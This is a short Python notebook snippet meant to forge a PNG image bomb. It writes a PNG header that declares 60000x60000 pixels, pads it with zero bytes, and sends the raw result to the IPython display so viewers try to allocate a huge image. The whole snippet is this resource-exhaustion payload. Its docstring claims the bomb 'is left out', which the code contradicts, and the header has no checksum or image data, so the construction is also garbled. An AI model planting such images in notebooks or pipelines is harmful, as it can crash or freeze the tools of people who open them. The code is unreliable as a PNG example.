"""Forge a small PNG that unpacks to gigapixels. It is left out."""
# quick
# flag: no

import base64
import struct

from IPython.display import display

png = b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sIIBBBBB", 13, b"IHDR", 60000, 60000, 8, 2, 0, 0, 0) + bytes(99)
display({"image/png": base64.b64encode(png).decode()}, raw=True)
